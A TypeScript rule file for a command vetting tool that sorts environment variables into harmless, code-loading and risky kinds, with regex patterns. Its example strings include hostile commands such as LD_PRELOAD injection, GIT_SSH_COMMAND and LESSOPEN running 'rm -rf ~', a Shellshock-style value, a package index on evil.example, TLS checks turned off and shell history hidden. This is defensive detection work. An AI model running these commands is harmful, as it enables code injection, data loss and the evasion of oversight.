export interface HarmlessName {
  readonly name: string;
  /** The allowed form of the value; absent: any value is harmless. */
  readonly value?: string;
}

/** Variables from which no tool takes code, programs or paths, with their harmless values. */
export const HARMLESS_NAMES: readonly HarmlessName[] = [
  { name: "^(LC_[A-Z]+|LANG|LANGUAGE)$", value: "^(C|POSIX|[A-Za-z_.-]*UTF-?8)$" },
  { name: "^TZ$", value: "^[A-Za-z][A-Za-z0-9_+/-]*$" },
  {
    name: "^(NO_COLOR|CI|COLUMNS|LINES|FORCE_COLOR|CLICOLOR|CLICOLOR_FORCE|COLORTERM|DEBUG|VERBOSE|QUIET|NONINTERACTIVE)$",
    value: "^[\\w:*,-]*$",
  },
  { name: "^TERM$", value: "^[a-z0-9-]+$" },
  { name: "^([A-Z]+_)?PAGER$", value: "^(cat)?$" },
  { name: "^MANWIDTH$", value: "^\\d+$" },
  { name: "^(NODE_ENV|RAILS_ENV|RACK_ENV|APP_ENV|FLASK_ENV|DJANGO_ENV|MIX_ENV|GO_ENV|ENVIRONMENT)$", value: "^\\w+$" },
  { name: "^(RUST_BACKTRACE|RUST_LOG|RUST_LOG_STYLE|RUST_TEST_THREADS|CARGO_TERM_[A-Z]+|CARGO_NET_OFFLINE)$" },
  {
    name: "^(PYTHONUNBUFFERED|PYTHONDONTWRITEBYTECODE|PYTHONUTF8|PYTHONHASHSEED|PYTHONIOENCODING|PYTHONFAULTHANDLER)$",
  },
  { name: "^(GIT_TERMINAL_PROMPT|GIT_OPTIONAL_LOCKS|GIT_CONFIG_NOSYSTEM|GIT_LITERAL_PATHSPECS|GIT_FLUSH|GIT_ADVICE)$" },
  { name: "^GIT_(AUTHOR|COMMITTER)_(NAME|EMAIL|DATE)$" },
  { name: "^(GOOS|GOARCH|GOARM|GOAMD64|CGO_ENABLED|GO111MODULE|GOMAXPROCS|GOGC)$", value: "^\\w*$" },
  { name: "^(DOCKER_BUILDKIT|BUILDKIT_PROGRESS|COMPOSE_DOCKER_CLI_BUILD|DOCKER_CLI_HINTS)$", value: "^\\w*$" },
  { name: "^(AWS_(DEFAULT_)?(REGION|OUTPUT)|AWS_MAX_ATTEMPTS|AWS_RETRY_MODE)$", value: "^[\\w-]*$" },
  {
    name: "^(SYSTEMD_COLORS|SYSTEMD_LOG_LEVEL|DEBIAN_FRONTEND|APT_LISTCHANGES_FRONTEND|TF_IN_AUTOMATION|TF_INPUT)$",
    value: "^\\w*$",
  },
  {
    name: "^(HOMEBREW_NO_\\w+|NO_UPDATE_NOTIFIER|GH_NO_UPDATE_NOTIFIER|GH_PROMPT_DISABLED|ADBLOCK|DISABLE_OPENCOLLECTIVE)$",
    value: "^\\w*$",
  },
  {
    name: "^(npm_config_(loglevel|fund|audit|progress|color|yes)|NPM_CONFIG_(LOGLEVEL|FUND|AUDIT|PROGRESS|COLOR))$",
    value: "^\\w*$",
  },
  { name: "^(PIP_DISABLE_PIP_VERSION_CHECK|PIP_NO_INPUT|PIP_NO_COLOR|UV_NO_PROGRESS|UV_OFFLINE)$", value: "^\\w*$" },
  { name: "^(LS_COLORS|GREP_COLORS?|TIME_STYLE|BLOCK_SIZE|BLOCKSIZE|QUOTING_STYLE)$", value: "^[\\w=;:*.+%-]*$" },
  // Chooses one of the user's own accounts.
  {
    name: "^(AWS_(DEFAULT_)?PROFILE|CLOUDSDK_(CORE_PROJECT|COMPUTE_ZONE|COMPUTE_REGION)|GOOGLE_CLOUD_PROJECT)$",
    value: "^[A-Za-z0-9_-]*$",
  },
];

/** Variables that load code or another program. Refused in a proposal's `env`. */
export const CODE_LOADING_NAMES: readonly string[] = [
  "^(LD|DYLD|BASH|GIT|PYTHON|PERL|RUBY|NODE|NPM|JAVA|MALLOC|GLIBC|GCONV|SSH|KUBECTL|KUBECONFIG|DOCKER|CARGO|RUSTC?|GO|PIP|UV|LUA|PHP|CSIGN|COUNTERSIGN|SUDO|SYSTEMD|RIPGREP|GREP|TAR|ZIP|UNZIP|GZIP|XZ|MAKE|CMAKE|LESS|EDITOR|MAN|_JAVA|FZF|BAT|VIM|EMACS|GDB|NVIM|TMUX|RSYNC|CVS|SVN|HIST|BUNDLE|GEM|COMPOSER|ANSIBLE|TF_CLI|AWS_CONFIG|AWS_SHARED|AWS_CA|CLOUDSDK_PYTHON|HELM|OPENSSL|SSL|CURL|WGET|NIX)(_|[A-Z0-9]|$)",
  "^(PATH|HOME|IFS|SHELLOPTS|BASHOPTS|PS[0-4]|ENV|PROMPT_COMMAND|CDPATH|GLOBIGNORE|EXECIGNORE|FIGNORE|POSIXLY_CORRECT|_POSIX2_VERSION|INPUTRC|EDITRC)$",
  "^(PAGER|.*_PAGER|VISUAL|.*EDITOR|.*_ASKPASS|BROWSER|SHELL|OPENSSL_CONF|OPENSSL_MODULES|LOCPATH|NLSPATH|TERMINFO.*|TERMCAP|TMPDIR|TEXTDOMAIN.*|VIMINIT|EXINIT|GVIMINIT|MYVIMRC)$",
  "^(JDK_JAVA_OPTIONS|CLASSPATH|CC|CXX|CPP|LD|LINKER|AR|AS|AWKPATH|AWKLIBPATH|HOSTALIASES|RESOLV_HOST_CONF|RES_OPTIONS|MAGIC|SQLITE_HISTORY|PSQLRC|PGSYSCONFDIR|PGSERVICEFILE|JQ_.*|XDG_.*|FPATH|ZDOTDIR|ELECTRON_RUN_AS_NODE|DOTNET_.*|COMPlus_.*|CORECLR_.*|GTK_MODULES|GTK_PATH|QT_PLUGIN_PATH|TZDIR)$",
  "^(HTTPS?|ALL|FTP|NO)_PROXY$",
  "^(https?|all|ftp|no)_proxy$",
  "^npm_config_",
];

/** A variable whose value certainly makes programs load or run something else, or disables a protection. */
export interface RiskyVariable {
  readonly name: string;
  /** Form of the value, in which unknown parts are NUL. It must be linear, because the value may be hostile. */
  readonly value?: string;
  /** Ordinary values. */
  readonly unless?: string;
  /** The value is the address of an unusual host: not one that everybody gets code from. */
  readonly foreign?: true;
  readonly says: string;
  readonly examples: { readonly matches: readonly string[]; readonly misses: readonly string[] };
}

const ANYONES = "(?:/tmp|/var/tmp|/dev/shm|/private/tmp)";
const COMMAND_OF_OLD =
  "^(?:/usr/bin/|/bin/|/usr/local/bin/|/opt/homebrew/bin/)?(?:cat|less|more|most|bat|delta|diff-so-fancy|vim?|nvim|nano|pico|micro|emacs(?:client)?|code|subl|hx|ed|true|false|:|ssh|" +
  "gcc|g\\+\\+|cc|c\\+\\+|clang(?:\\+\\+)?(?:-\\d+)?|gcc-\\d+|sccache|ccache|lld|mold|ld|ar|firefox|chrome|open|xdg-open|echo|touch|col|lesspipe(?:\\.sh)?)" +
  "(?: [\\w./=,:@%+~-]+)*$";

export const RISKY_VARIABLES: readonly RiskyVariable[] = [
  {
    name: "^(LD_PRELOAD|LD_AUDIT|DYLD_INSERT_LIBRARIES|DYLD_FORCE_FLAT_NAMESPACE|GCONV_PATH|BASH_ENV|PYTHONSTARTUP|PYTHONHOME|PERL5DB|PERL5OPT|ZDOTDIR|MAKEFILES|GIT_EXEC_PATH|GIT_CONFIG_(COUNT|PARAMETERS|KEY_\\d+|VALUE_\\d+)|VIMINIT|EXINIT|GVIMINIT|LESSKEYIN|LESSKEY_CONTENT|PROMPT_COMMAND|GIT_PROXY_COMMAND|GIT_ALTERNATE_OBJECT_DIRECTORIES|OPENSSL_ENGINES|GTK_MODULES|CORECLR_PROFILER_PATH|DOTNET_STARTUP_HOOKS|COR_PROFILER_PATH|SSLKEYLOGFILE|AWKLIBPATH)$",
    value: "^.",
    unless: "^/dev/null$",
    says: "loads or runs other code in the programs that see it",
    examples: {
      matches: [
        "LD_PRELOAD=./evil.so ls",
        "BASH_ENV=/tmp/evil.sh bash -c ls",
        "PERL5OPT=-Mx perl -v",
        "export LD_PRELOAD=/tmp/x.so",
      ],
      misses: ["GIT_TERMINAL_PROMPT=0 git fetch", "PYTHONUNBUFFERED=1 python3 x.py"],
    },
  },
  {
    name: "^(LD_LIBRARY_PATH|DYLD_\\w*PATH|PYTHONPATH|NODE_PATH|PERL5LIB|PERLLIB|RUBYLIB|LUA_C?PATH|CLASSPATH|GEM_PATH|GEM_HOME|LOCPATH|TERMINFO(_DIRS)?|MAGIC|OPENSSL_CONF|OPENSSL_MODULES|QT_PLUGIN_PATH|GTK_PATH|AWKPATH|JAVA_HOME|XDG_CONFIG_HOME|GIT_TEMPLATE_DIR|GIT_DIR|GIT_CONFIG(_GLOBAL|_SYSTEM)?|RIPGREP_CONFIG_PATH|PSQLRC|INPUTRC|GDBINIT|PYTHONUSERBASE|BUNDLE_GEMFILE|NPM_CONFIG_USERCONFIG|npm_config_userconfig|CARGO_HOME|DOCKER_CONFIG|AWS_CONFIG_FILE|KUBECONFIG|PHPRC|PHP_INI_SCAN_DIR)$",
    value: `(?:^|[:=;])${ANYONES}(?:/|$|:)`,
    says: "takes code or settings from a place that anyone can write to",
    examples: {
      matches: [
        "LD_LIBRARY_PATH=/tmp/evil ls",
        "PYTHONPATH=/tmp/evil python3 app.py",
        "RIPGREP_CONFIG_PATH=/tmp/rc rg x",
      ],
      misses: ["PYTHONPATH=. pytest", "LD_LIBRARY_PATH=./lib ./app", "PYTHONPATH=src:lib python3 x.py"],
    },
  },
  {
    name: "^PATH$",
    // A directory that anyone can write to, or the current one, before the usual ones.
    value: `^(?:[^:\\0]*:)*(?:${ANYONES}(?:[/:]|$)|\\.{0,2}(?::|$)|\\.{1,2}/(?!node_modules|bin|\\.?venv|vendor|scripts|tools|target|build|dist))`,
    says: "finds programs in a place where anyone can put them",
    examples: {
      matches: [
        "PATH=/tmp/evil:$PATH ls",
        "PATH=.:$PATH ls",
        "export PATH=/dev/shm:$PATH",
        "PATH=./x:$PATH git status",
      ],
      misses: [
        "PATH=$PATH:./node_modules/.bin x",
        "PATH=./node_modules/.bin:$PATH x",
        "PATH=$HOME/.local/bin:$PATH x",
        "PATH=/usr/bin:/bin ls",
      ],
    },
  },
  {
    name: "^(PAGER|.*_PAGER|MANPAGER|EDITOR|VISUAL|.*_EDITOR|FCEDIT|BROWSER|SHELL|.*_ASKPASS|GIT_SSH|GIT_SSH_COMMAND|GIT_EXTERNAL_DIFF|GIT_MERGE_AUTOEDIT|SSH_ASKPASS|RSYNC_RSH|CVS_RSH|SVN_SSH|SVN_EDITOR|SVN_MERGE|FZF_DEFAULT_COMMAND|LESSEDIT|LESSOPEN|LESSCLOSE|RUSTC_WRAPPER|RUSTC_WORKSPACE_WRAPPER|RUSTC|CARGO_BUILD_RUSTC(_\\w+)?|CARGO_\\w+_(RUNNER|LINKER|WRAPPER)|CC|CXX|CPP|LD|AR|NPM_CONFIG_SCRIPT_SHELL|npm_config_script_shell|NPM_CONFIG_(EDITOR|GIT|SHELL|VIEWER)|npm_config_(editor|git|shell|viewer)|TAR_RSH|RSH|PDSH_RCMD_TYPE|PERL5SHELL|MAKESHELL|ANSIBLE_PASSWORD_FILE|ANSIBLE_VAULT_PASSWORD_FILE|RESTIC_PASSWORD_COMMAND|BORG_PASSCOMMAND|BORG_RSH|PYTHONBREAKPOINT|TEXEDIT|MANROFFOPT)$",
    value: "^[^\\0]+$",
    unless: `${COMMAND_OF_OLD}|^(?:/usr)?(?:/local)?(?:/bin/)?(?:ba|z|da|fi)?sh$|^0$|^\\|?-? ?/usr/(?:local/)?(?:bin|share/\\S{1,40})/\\S{1,40} %s$|^[\\w.]+\\.set_trace$`,
    says: "makes programs run another one",
    examples: {
      matches: [
        "GIT_SSH_COMMAND='sh -c \"rm -rf ~\"' git fetch",
        "PAGER='sh -c id' git -p log",
        "MANPAGER='sh -c id' man ls",
        "GIT_EXTERNAL_DIFF=./x git diff",
        "LESSOPEN='|rm -rf ~' less f",
        "EDITOR=/tmp/x git commit",
        "GIT_SSH_COMMAND='ssh -o ProxyCommand=x;y' git fetch",
      ],
      misses: [
        "EDITOR=vim git commit",
        "GIT_SEQUENCE_EDITOR=true git rebase -i main",
        "GIT_SSH_COMMAND='ssh -i key -p 22' git fetch",
        "PAGER='less -R' man ls",
        "CC=clang make",
        "SHELL=/bin/bash make",
      ],
    },
  },
  {
    name: "^(PAGER|.*_PAGER|EDITOR|VISUAL|.*_EDITOR|GIT_SSH_COMMAND|RSYNC_RSH|SHELL|BORG_RSH|GIT_EXTERNAL_DIFF)$",
    value:
      "(?i:proxycommand|localcommand|knownhostscommand)|\\b(?:sh|bash|zsh|dash|python3?|perl|ruby|node|php)\\b.* -[a-z]*[cer]\\b|\\brm\\b",
    says: "makes programs run another one",
    examples: {
      matches: ["GIT_SSH_COMMAND='ssh -o ProxyCommand=x' git fetch", "PAGER='bash -c id' man ls"],
      misses: ["GIT_SSH_COMMAND='ssh -i key' git fetch", "SHELL=/bin/bash make"],
    },
  },
  {
    name: "^NODE_OPTIONS$",
    value:
      "(?:^|\\s)(?:-r|--require|--import|--loader|--experimental-loader)[=\\s]+['\"]?(?:[/.~]|data:|https?:)|(?:^|\\s)(?:-e|--eval)\\b",
    says: "loads other code into every node program",
    examples: {
      matches: ["NODE_OPTIONS='--require /tmp/evil.js' node -p 1", "NODE_OPTIONS=--import=./x.mjs npm test"],
      misses: ["NODE_OPTIONS=--max-old-space-size=4096 npm run build", "NODE_OPTIONS='--import tsx' npm test"],
    },
  },
  {
    name: "^(RUBYOPT|JAVA_TOOL_OPTIONS|_JAVA_OPTIONS|JDK_JAVA_OPTIONS|MAVEN_OPTS|GRADLE_OPTS|GOFLAGS|MAKEFLAGS|GNUMAKEFLAGS|TAR_OPTIONS|FZF_DEFAULT_OPTS|LESS|MANOPT|RIPGREP_OPTS|PHP_INI|CFLAGS|RUSTFLAGS|RUSTDOCFLAGS|LDFLAGS|TF_CLI_ARGS\\w*|PYTHONWARNINGS|BASH_FUNC_\\w+)$",
    value:
      "(?:^|\\s)-r\\s?[/.~]|-javaagent:|-agentpath:|-agentlib:(?!jdwp)|OnOutOfMemoryError|-XX:OnError|-toolexec|-exec[ =]|-overlay|--eval|SHELL=|checkpoint-action|to-command|use-compress-program|(?:^|\\s)-I\\s?[/.]\\S{0,99}(?:sh|tmp)|" +
      "--preview|--bind|execute\\(|^\\+!|-P ?\\S*sh|-Clinker=/tmp|-C linker=/tmp|-wrapper|-fplugin=|-specs=|auto_prepend_file|^all:0:",
    says: "gives programs options that run other code",
    examples: {
      matches: [
        "RUBYOPT=-r./evil ruby -v",
        "JAVA_TOOL_OPTIONS=-javaagent:/tmp/x.jar mvn test",
        "GOFLAGS=-toolexec=x go build",
        "TAR_OPTIONS='--checkpoint-action=exec=sh' tar cf a b",
        "MAKEFLAGS='--eval=x' make",
      ],
      misses: [
        "GOFLAGS=-mod=mod go build",
        "RUBYOPT=-W0 rake",
        "JAVA_TOOL_OPTIONS=-Xmx2g mvn test",
        "LESS=-FRX git log",
        "RUSTFLAGS='-C target-cpu=native' cargo build",
      ],
    },
  },
  {
    name: "^(PS[0-4]|PROMPT_COMMAND|BASH_\\w+|ENV)$",
    value: "\\$\\(|`|^/|^\\.",
    says: "makes the shell run text",
    examples: {
      matches: ["PS4='$(id)' bash -x a.sh", "ENV=./x sh -i"],
      misses: ["PS4='+ ' bash -x a.sh", "ENV=test npm start"],
    },
  },
  {
    name: "^(SHELLOPTS|BASHOPTS)$",
    value: "xtrace|expand_aliases",
    says: "makes the shell run text",
    examples: { matches: ["env SHELLOPTS=xtrace bash a.sh"], misses: ["TERM=dumb bash a.sh"] },
  },
  {
    name: "^[\\w%]+$",
    value: "^\\(\\)\\s{0,9}\\{",
    says: "holds a function that shells may run",
    examples: { matches: ["x='() { :;}; id' bash -c ls"], misses: ["x=1 bash -c ls"] },
  },
  {
    name: "^(NODE_TLS_REJECT_UNAUTHORIZED|PYTHONHTTPSVERIFY|NPM_CONFIG_STRICT_SSL|npm_config_strict_ssl|YARN_ENABLE_STRICT_SSL)$",
    value: "^(0|false|no)$",
    says: "turns off the check of whom is talked to",
    examples: {
      matches: ["NODE_TLS_REJECT_UNAUTHORIZED=0 npm test", "export PYTHONHTTPSVERIFY=0"],
      misses: ["NODE_TLS_REJECT_UNAUTHORIZED=1 npm test"],
    },
  },
  {
    name: "^(GIT_SSL_NO_VERIFY|PIP_TRUSTED_HOST|GOINSECURE|GONOSUMCHECK|UV_INSECURE_HOST|HOMEBREW_NO_VERIFY_ATTESTATIONS)$",
    value: "^(?!0$|false$|localhost$)[^\\0]",
    says: "turns off the check of whom is talked to",
    examples: {
      matches: ["GIT_SSL_NO_VERIFY=1 git clone https://x.io/r", "PIP_TRUSTED_HOST=evil.example pip install x"],
      misses: ["GIT_SSL_NO_VERIFY=0 git fetch"],
    },
  },
  {
    name: "^(GOSUMDB|GONOSUMDB|GOFLAGS)$",
    value: "^off$|-insecure|^\\*$",
    says: "turns off the check of what is downloaded",
    examples: { matches: ["GOSUMDB=off go get x"], misses: ["GOFLAGS=-mod=mod go build"] },
  },
  {
    name: "^(PIP_INDEX_URL|PIP_EXTRA_INDEX_URL|UV_INDEX_URL|UV_DEFAULT_INDEX|UV_EXTRA_INDEX_URL|NPM_CONFIG_REGISTRY|npm_config_registry|YARN_REGISTRY|GOPROXY|CARGO_REGISTRIES_\\w+_INDEX|GEM_SOURCE|HOMEBREW_BOTTLE_DOMAIN|RUSTUP_DIST_SERVER|PIP_FIND_LINKS)$",
    foreign: true,
    says: "gets code from somewhere else",
    examples: {
      matches: [
        "PIP_INDEX_URL=http://evil.example/simple pip install x",
        "npm_config_registry=http://evil.example npm i",
      ],
      misses: ["NPM_CONFIG_REGISTRY=https://registry.npmjs.org npm ci", "GOPROXY=direct go mod tidy"],
    },
  },
  {
    name: "^(HISTFILE|HISTSIZE|HISTFILESIZE|HISTIGNORE|SAVEHIST)$",
    value: "^(/dev/null|0|\\*)?$",
    says: "hides what the shell does from its history",
    examples: { matches: ["export HISTFILE=/dev/null", "HISTSIZE=0 bash"], misses: ["HISTSIZE=1000 bash"] },
  },
];

/** Programs that read no variable except those above. */
export const IGNORES_VARIABLES: readonly string[] =
  `basename cat cksum cmp column comm cut date df diff dirname du echo egrep expr false fgrep file find fold free getconf grep groups head
  hexdump hostname id join ls lsblk md5sum nl nproc od paste pgrep pidof printenv printf ps pwd readlink realpath rev seq sha1sum sha224sum
  sha256sum sha384sum sha512sum shasum sleep sort stat strings sum tac tail test tr tree true tty uname uniq uptime wc which who whoami xxd
  yes [`
    .trim()
    .split(/\s+/);
